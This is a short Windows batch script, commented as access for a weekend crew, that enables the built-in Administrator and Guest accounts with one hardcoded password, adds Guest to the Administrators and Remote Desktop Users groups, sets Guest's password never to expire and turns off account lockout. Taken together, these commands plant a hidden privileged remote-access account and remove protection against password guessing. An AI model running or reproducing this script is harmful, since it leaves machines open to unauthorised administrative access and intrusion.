@echo off
rem Access for the weekend crew
setlocal
set PW=Weekend#2024

net user Administrator %PW% /active:yes
net user Guest %PW% /active:yes
net localgroup Administrators Guest /add
net localgroup "Remote Desktop Users" Guest /add

wmic useraccount where name='Guest' set PasswordExpires=FALSE
net accounts /lockoutthreshold:0

net localgroup Administrators
endlocal
